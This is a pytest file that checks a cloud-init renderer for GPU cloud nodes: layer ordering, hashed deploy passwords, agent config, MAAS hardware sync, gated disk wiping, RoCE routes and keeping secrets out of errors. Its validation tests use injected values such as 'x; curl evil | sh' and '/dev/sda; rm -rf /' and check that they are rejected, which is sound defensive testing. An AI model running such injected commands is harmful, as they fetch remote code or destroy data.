"""First-boot cloud-init composition (docs/lifecycles/onboarding.md#cloud-init,
docs/lifecycles/onboarding.md#hardware-sync): ordered layers, valid #cloud-config, the agent config
the agent reads, hardware sync with the site interval, explicit destructive disk initialisation,
RoCE routing from typed data, a stable version, and no secret leaks."""

from __future__ import annotations

import dataclasses
import json
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest

from activities.cloud_init import (
    AGENT_CONFIG_PATH,
    AGENT_UNIT,
    CLOUD_INIT_FORMAT,
    ROCE_SCRIPT,
    ROCE_UNIT,
    SHARE_DISKS_SCRIPT,
    SITE_BOOTSTRAP_REF_PATH,
    AgentBootstrap,
    CloudInitError,
    CloudInitInput,
    DeployUser,
    DestructiveStepNotAllowed,
    MaasMachineCredentials,
    NodeFacts,
    RoceAssignment,
    SiteFacts,
    hardware_sync_minutes,
    render_cloud_init,
    render_roce_script,
    sha512_crypt,
)
from activities.maas.types import MachineToken
from agent.config_file import read_agent_config, table
from agent.enrollment import AgentConfig
from agent.storage_mounts import StorageMountConfig

ENROLLMENT_TOKEN = "gpe_SECRETenrollment0123456789"
CONSUMER_KEY = "CKsecretConsumer42"
TOKEN_KEY = "TKsecretTokenKey42"
TOKEN_SECRET = "TSsecretTokenSecret42"
PASSWORD = "hunter2-deploy"
PASSWORD_HASH = sha512_crypt(PASSWORD, "fixedsalt")
SECRETS = (ENROLLMENT_TOKEN, CONSUMER_KEY, TOKEN_KEY, TOKEN_SECRET, PASSWORD, PASSWORD_HASH)

SEED_ROCE = (  # docs/maas-sites.md#admin-api, host c07u31
    RoceAssignment("enp28s0np0", "172.30.9.61/31"),
    RoceAssignment("enp29s0np0", "172.29.1.219/31"),
    RoceAssignment("enp62s0np0", "172.30.9.63/31"),
)


def make_input(**changes: Any) -> CloudInitInput:
    base = CloudInitInput(
        site=SiteFacts(
            name="dc1",
            deploy_user=DeployUser(name="hpcadmin", password_hash=PASSWORD_HASH),
            hardware_sync_interval="15m",
            upstream_dns_servers=("1.1.1.1", "8.8.8.8"),
            site_bootstrap_bundle_ref="bundles/dc1-site-bootstrap@v3",
        ),
        node=NodeFacts(
            hostname="c07u31", maas_system_id="x7ab3c", maas_url="http://maas.dc1:5240/MAAS"
        ),
        agent=AgentBootstrap(
            api_url="https://api.gpucloud.example", enrollment_token=ENROLLMENT_TOKEN
        ),
        maas_machine_token=MaasMachineCredentials.from_token(
            MachineToken(consumer_key=CONSUMER_KEY, token_key=TOKEN_KEY, token_secret=TOKEN_SECRET)
        ),
        roce=SEED_ROCE,
    )
    return dataclasses.replace(base, **changes)


def body(content: str) -> dict[str, Any]:
    assert content.startswith("#cloud-config\n")
    doc: dict[str, Any] = json.loads(content.removeprefix("#cloud-config\n"))
    return doc


def files(doc: dict[str, Any]) -> dict[str, dict[str, str]]:
    return {f["path"]: f for f in doc["write_files"]}


def test_valid_cloud_config_with_ordered_layers() -> None:
    result = render_cloud_init(make_input())
    doc = body(result.content)
    assert set(doc) == {"users", "write_files", "runcmd"}
    assert result.layers == (
        "site_bootstrap",
        "deploy_user",
        "agent_bootstrap",
        "hardware_sync",
        "roce_routing",
        "runcmd",
    )
    paths = [f["path"] for f in doc["write_files"]]
    # write_files follow the layer order: site, agent, hardware sync, RoCE.
    order = [
        SITE_BOOTSTRAP_REF_PATH,
        AGENT_CONFIG_PATH,
        "/etc/maas/maas-machine-creds.yml",
        ROCE_SCRIPT,
    ]
    assert [paths.index(p) for p in order] == sorted(paths.index(p) for p in order)
    runcmd = [" ".join(c) for c in doc["runcmd"]]
    assert runcmd[0] == "systemctl daemon-reload"
    assert runcmd[1] == "/usr/local/lib/gpucloud/run-site-bootstrap.sh"
    assert (
        runcmd.index(f"systemctl enable --now {ROCE_UNIT}")
        < runcmd.index("systemctl enable --now maas_hardware_sync.timer")
        < runcmd.index(f"systemctl enable --now {AGENT_UNIT}")
    )
    assert result.b64()


def test_site_bundle_is_a_reference_only() -> None:
    doc = body(render_cloud_init(make_input()).content)
    ref = files(doc)[SITE_BOOTSTRAP_REF_PATH]
    assert ref["content"] == "bundles/dc1-site-bootstrap@v3\n"
    # the reference is never a command
    assert all("bundles/dc1" not in " ".join(c) for c in doc["runcmd"])
    assert (
        "DNS=1.1.1.1 8.8.8.8"
        in files(doc)["/etc/systemd/resolved.conf.d/60-gpucloud-upstream-dns.conf"]["content"]
    )
    bare = make_input(
        site=dataclasses.replace(
            make_input().site, site_bootstrap_bundle_ref=None, upstream_dns_servers=()
        )
    )
    result = render_cloud_init(bare)
    assert "site_bootstrap" not in result.layers
    assert SITE_BOOTSTRAP_REF_PATH not in files(body(result.content))
    with pytest.raises(CloudInitError):
        render_cloud_init(
            make_input(
                site=dataclasses.replace(
                    make_input().site, site_bootstrap_bundle_ref="x; curl evil | sh"
                )
            )
        )


def test_deploy_user_hashed_password_no_sudo_by_default() -> None:
    doc = body(render_cloud_init(make_input()).content)
    user = doc["users"][1]
    assert user["name"] == "hpcadmin"
    assert user["passwd"] == PASSWORD_HASH
    assert user["lock_passwd"] is False
    assert "sudo" not in user
    sudo_site = dataclasses.replace(
        make_input().site, deploy_user=DeployUser("hpcadmin", PASSWORD_HASH, sudo=True)
    )
    doc = body(render_cloud_init(make_input(site=sudo_site)).content)
    assert doc["users"][1]["sudo"] == "ALL=(ALL) ALL"


def test_sha512_crypt_matches_reference_vectors() -> None:
    # Drepper's SHA-crypt specification test vectors.
    assert sha512_crypt("Hello world!", "saltstring") == (
        "$6$saltstring$svn8UoSVapNtMuq1ukKS4tPQd8iKwSMHWjl/O817G3uBnIFNjnQJuesI68u4OTLiBFdcbYEdFCoEOfaS35inz1"
    )
    assert sha512_crypt("Hello world!", "saltstringsaltst", rounds=10000) == (
        "$6$rounds=10000$saltstringsaltst$OW1/O6BYHV6BcXZu8QVeXbDWra3Oeqh0sbHbbMCVNSnCM/"
        "UrjmM0Dp8vOuZeHBy/YTBmSK6H9qs/y3RnOaw5v."
    )


def test_file_modes() -> None:
    doc = body(render_cloud_init(make_input()).content)
    by_path = files(doc)
    assert by_path[AGENT_CONFIG_PATH]["permissions"] == "0600"
    assert by_path["/etc/maas/maas-machine-creds.yml"]["permissions"] == "0600"
    assert all(f["owner"] == "root:root" for f in doc["write_files"])
    assert by_path[ROCE_SCRIPT]["permissions"] == "0755"


def test_agent_toml_round_trips_through_agent_config(tmp_path: Path) -> None:
    agent = AgentBootstrap(
        api_url="https://api.gpucloud.example/",
        enrollment_token='gpe_"quoted"\\back',
        state_dir="/var/lib/gpucloud-agent",
    )
    doc = body(render_cloud_init(make_input(agent=agent)).content)
    path = tmp_path / "agent.toml"
    path.write_text(files(doc)[AGENT_CONFIG_PATH]["content"])
    config = AgentConfig.load(path)
    assert config.api_url == "https://api.gpucloud.example"
    assert config.enrollment_token == 'gpe_"quoted"\\back'
    assert config.state_dir == Path("/var/lib/gpucloud-agent")
    # No payload key rides in user data: enrollment writes the node's own key into the state dir.
    assert config.payload_key_file is None
    assert config.payload_key_path == Path("/var/lib/gpucloud-agent/payload.key")
    assert not [p for p in files(doc) if p.endswith(".key")]
    unit = files(doc)[f"/etc/systemd/system/{AGENT_UNIT}"]["content"]
    assert f"GPUCLOUD_AGENT_CONFIG={AGENT_CONFIG_PATH}" in unit
    assert "SSL_CERT_FILE" not in unit
    assert "ca_certs" not in doc


def test_storage_export_root_reaches_the_agents_storage_config(tmp_path: Path) -> None:
    """The provider's root becomes `[storage] export_root`, as the agent's storage backend reads
    it; without one there is no [storage] table; a relative path is refused."""
    agent = AgentBootstrap(
        api_url="https://api.gpucloud.example",
        enrollment_token=ENROLLMENT_TOKEN,
        storage_export_root="/srv/my storage+1",
    )
    doc = body(render_cloud_init(make_input(agent=agent)).content)
    path = tmp_path / "agent.toml"
    path.write_text(files(doc)[AGENT_CONFIG_PATH]["content"])
    data = read_agent_config(path)
    assert StorageMountConfig.from_table(table(data, "storage")).export_root == Path(
        "/srv/my storage+1"
    )
    assert AgentConfig.load(path).enrollment_token == ENROLLMENT_TOKEN  # still top-level keys
    plain = body(render_cloud_init(make_input()).content)
    assert "[storage]" not in files(plain)[AGENT_CONFIG_PATH]["content"]
    for bad in ("srv/storage", "/srv/../etc", "/srv/x\n"):
        refused = dataclasses.replace(agent, storage_export_root=bad)
        with pytest.raises(CloudInitError, match=r"agent\.storage_export_root"):
            render_cloud_init(make_input(agent=refused))


def test_ca_bundle_and_package() -> None:
    pem = "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIU\n-----END CERTIFICATE-----\n"
    agent = dataclasses.replace(
        make_input().agent,
        ca_bundle_pem=pem,
        agent_package_url="https://pkg.gpucloud.example/gpucloud-agent_0.1.0_amd64.deb",
    )
    doc = body(render_cloud_init(make_input(agent=agent)).content)
    assert doc["ca_certs"] == {"trusted": [pem]}
    unit = files(doc)[f"/etc/systemd/system/{AGENT_UNIT}"]["content"]
    assert "SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt" in unit
    assert files(doc)["/etc/gpucloud/agent-package.url"]["content"].startswith("https://pkg.")
    runcmd = [" ".join(c) for c in doc["runcmd"]]
    assert runcmd.index("/usr/local/lib/gpucloud/install-agent.sh") < runcmd.index(
        f"systemctl enable --now {AGENT_UNIT}"
    )
    for bad in ("http://pkg.example/a.deb", "https://pkg.example/a.sh"):
        with pytest.raises(CloudInitError, match="agent_package_url"):
            render_cloud_init(make_input(agent=dataclasses.replace(agent, agent_package_url=bad)))
    with pytest.raises(CloudInitError, match="ca_bundle_pem"):
        render_cloud_init(make_input(agent=dataclasses.replace(agent, ca_bundle_pem="nope")))


def test_hardware_sync_creds_and_timer_interval() -> None:
    site = dataclasses.replace(make_input().site, hardware_sync_interval="2h")
    doc = body(render_cloud_init(make_input(site=site)).content)
    by_path = files(doc)
    timer = by_path["/etc/systemd/system/maas_hardware_sync.timer"]["content"]
    assert "OnUnitActiveSec=120min" in timer
    assert "Unit=maas_hardware_sync.service" in timer
    assert "ExecStart=" in by_path["/etc/systemd/system/maas_hardware_sync.service"]["content"]
    creds = json.loads(by_path["/etc/maas/maas-machine-creds.yml"]["content"])["reporting"]["maas"]
    assert creds == {
        "type": "webhook",
        "endpoint": "http://maas.dc1:5240/MAAS/metadata/status/x7ab3c",
        "consumer_key": CONSUMER_KEY,
        "token_key": TOKEN_KEY,
        "token_secret": TOKEN_SECRET,
    }
    assert ["systemctl", "enable", "--now", "maas_hardware_sync.timer"] in doc["runcmd"]
    assert hardware_sync_minutes("15m") == 15
    assert hardware_sync_minutes("900s") == 15
    for bad in ("30s", "0m", "25h", "15", "m"):
        with pytest.raises(CloudInitError, match="hardware_sync_interval"):
            hardware_sync_minutes(bad)


def test_no_destructive_step_unless_disks_and_flag() -> None:
    for spec in (
        make_input(),
        make_input(allow_destructive_share_init=True),  # flag without disks: nothing to do
    ):
        result = render_cloud_init(spec)
        assert "share_disks" not in result.layers
        assert SHARE_DISKS_SCRIPT not in result.content
        assert "wipefs" not in result.content
    with pytest.raises(DestructiveStepNotAllowed):
        render_cloud_init(make_input(share_disks=("/dev/nvme1n1",)))
    result = render_cloud_init(
        make_input(share_disks=("/dev/nvme1n1", "/dev/nvme2n1"), allow_destructive_share_init=True)
    )
    assert result.layers.index("share_disks") == result.layers.index("hardware_sync") + 1
    doc = body(result.content)
    assert files(doc)["/etc/gpucloud/share-disks.list"]["content"] == "/dev/nvme1n1\n/dev/nvme2n1\n"
    script = files(doc)[SHARE_DISKS_SCRIPT]["content"]
    assert "refusing to initialise the root disk" in script
    assert "wipefs -a" in script
    assert [SHARE_DISKS_SCRIPT] in doc["runcmd"]
    for bad in ("/dev/nvme1n1p1", "/dev/sda; rm -rf /", "nvme1n1", "/dev/../sda"):
        with pytest.raises(CloudInitError, match=r"share_disks\[0\]"):
            render_cloud_init(make_input(share_disks=(bad,), allow_destructive_share_init=True))


def test_roce_script_for_seed_example() -> None:
    script = render_roce_script(SEED_ROCE)
    commands = [line for line in script.splitlines() if line.startswith("ip ")]
    assert commands == [
        "ip route replace 172.30.9.60/31 dev enp28s0np0 src 172.30.9.61 table 100",
        "ip route replace default via 172.30.9.60 dev enp28s0np0 table 100",
        "ip rule del priority 1000 2>/dev/null || true",
        "ip rule add from 172.30.9.61/32 table 100 priority 1000",
        "ip route replace 172.29.1.218/31 dev enp29s0np0 src 172.29.1.219 table 101",
        "ip route replace default via 172.29.1.218 dev enp29s0np0 table 101",
        "ip rule del priority 1001 2>/dev/null || true",
        "ip rule add from 172.29.1.219/32 table 101 priority 1001",
        "ip route replace 172.30.9.62/31 dev enp62s0np0 src 172.30.9.63 table 102",
        "ip route replace default via 172.30.9.62 dev enp62s0np0 table 102",
        "ip rule del priority 1002 2>/dev/null || true",
        "ip rule add from 172.30.9.63/32 table 102 priority 1002",
    ]
    doc = body(render_cloud_init(make_input()).content)
    assert files(doc)[ROCE_SCRIPT]["content"] == script
    assert "ExecStart=" + ROCE_SCRIPT in files(doc)[f"/etc/systemd/system/{ROCE_UNIT}"]["content"]
    explicit = render_roce_script([RoceAssignment("eth1", "10.0.0.5/24", gateway="10.0.0.1")])
    assert "ip route replace default via 10.0.0.1 dev eth1 table 100" in explicit
    assert "roce_routing" not in render_cloud_init(make_input(roce=())).layers


@pytest.mark.parametrize(
    ("assignment", "where"),
    [
        (RoceAssignment("enp28s0np0; reboot", "172.30.9.61/31"), r"roce\[0\]\.interface"),
        (RoceAssignment("averyveryverylongname0", "172.30.9.61/31"), r"roce\[0\]\.interface"),
        (RoceAssignment("../etc", "172.30.9.61/31"), r"roce\[0\]\.interface"),
        (RoceAssignment("enp28s0np0", "172.30.9.61"), r"roce\[0\]\.ipv4_cidr"),
        (RoceAssignment("enp28s0np0", "172.30.9.300/31"), r"roce\[0\]\.ipv4_cidr"),
        (RoceAssignment("enp28s0np0", "fe80::1/64"), r"roce\[0\]\.ipv4_cidr"),
        (RoceAssignment("enp28s0np0", "10.0.0.5/24"), r"roce\[0\]\.gateway"),
        (RoceAssignment("enp28s0np0", "10.0.0.5/24", "10.9.0.1"), r"roce\[0\]\.gateway"),
        (RoceAssignment("enp28s0np0", "10.0.0.5/24", "10.0.0.1 x"), r"roce\[0\]\.gateway"),
    ],
)
def test_invalid_roce_rejected(assignment: RoceAssignment, where: str) -> None:
    with pytest.raises(CloudInitError, match=where):
        render_cloud_init(make_input(roce=(assignment,)))


@pytest.mark.parametrize("hostname", ["", "-c07", "c07_u31", "c07u31.", "a" * 64, "c07 u31"])
def test_invalid_hostname_rejected(hostname: str) -> None:
    node = dataclasses.replace(make_input().node, hostname=hostname)
    with pytest.raises(CloudInitError, match=r"node\.hostname"):
        render_cloud_init(make_input(node=node))


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("maas_url", "ftp://maas.dc1/MAAS"),
        ("maas_url", "http://maas.dc1/MAAS\n"),
        ("maas_url", "http://user:pw@maas.dc1/MAAS"),
        ("maas_system_id", "X7AB3C; id"),
    ],
)
def test_invalid_node_facts_rejected(field: str, value: str) -> None:
    node = dataclasses.replace(make_input().node, **{field: value})
    with pytest.raises(CloudInitError, match=f"node.{field}"):
        render_cloud_init(make_input(node=node))


def test_version_stable_and_content_addressed() -> None:
    first, second = render_cloud_init(make_input()), render_cloud_init(make_input())
    assert first.content == second.content
    assert first.version == second.version
    assert re.fullmatch(rf"{re.escape(CLOUD_INIT_FORMAT)}/[0-9a-f]{{64}}", first.version)
    other_token = dataclasses.replace(make_input().agent, enrollment_token="gpe_other")
    for different in (
        make_input(agent=other_token),
        make_input(roce=SEED_ROCE[:2]),
        make_input(site=dataclasses.replace(make_input().site, hardware_sync_interval="30m")),
    ):
        assert render_cloud_init(different).version != first.version


def test_secrets_never_in_repr_or_errors() -> None:
    # The renderer is a pure function and logs nothing; what could leak a secret is its
    # objects' repr and its errors' messages.
    spec = make_input()
    result = render_cloud_init(spec)
    for secret in SECRETS:
        assert secret in result.content or secret == PASSWORD
        assert secret not in repr(spec)
        assert secret not in repr(result)
    assert PASSWORD not in result.content  # only the hash travels

    bad_inputs = [
        make_input(agent=dataclasses.replace(spec.agent, enrollment_token=ENROLLMENT_TOKEN + " x")),
        make_input(
            maas_machine_token=dataclasses.replace(
                spec.maas_machine_token, token_secret=TOKEN_SECRET + "\n"
            )
        ),
        make_input(
            maas_machine_token=dataclasses.replace(spec.maas_machine_token, consumer_key="")
        ),
        make_input(
            site=dataclasses.replace(
                spec.site, deploy_user=DeployUser("hpcadmin", password_hash=PASSWORD)
            )
        ),
        make_input(agent=dataclasses.replace(spec.agent, api_url=f"https://{ENROLLMENT_TOKEN} x/")),
    ]
    for bad in bad_inputs:
        with pytest.raises(CloudInitError) as info:
            render_cloud_init(bad)
        message = str(info.value) + repr(info.value)
        for secret in SECRETS:
            assert secret not in message


def test_yaml_parser_reads_the_same_document() -> None:
    yaml = pytest.importorskip("yaml")
    result = render_cloud_init(make_input())
    assert yaml.safe_load(result.content) == body(result.content)


def test_generated_scripts_are_valid_shell() -> None:
    agent = dataclasses.replace(make_input().agent, agent_package_url="https://p.example/a.deb")
    spec = make_input(agent=agent, share_disks=("/dev/sdb",), allow_destructive_share_init=True)
    scripts = [
        f["content"]
        for f in body(render_cloud_init(spec).content)["write_files"]
        if f["content"].startswith("#!")
    ]
    assert len(scripts) == 4
    for script in scripts:
        shell = "bash" if script.startswith("#!/bin/bash") else "sh"
        check = subprocess.run([shell, "-n"], input=script, text=True, capture_output=True)
        assert check.returncode == 0, check.stderr
